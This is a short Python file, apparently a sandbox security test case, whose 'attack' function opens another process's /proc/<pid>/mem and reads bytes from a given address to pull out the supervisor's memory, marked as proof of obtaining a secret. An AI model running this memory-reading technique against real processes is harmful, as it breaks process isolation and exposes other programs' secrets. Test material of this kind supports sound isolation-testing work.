# Reads the supervisor's memory through /proc.
# proof: secret
import os


def attack(arg):
    fd = os.open(f"/proc/{arg['reader']}/mem", os.O_RDONLY)
    return os.pread(fd, arg["length"], arg["address"])
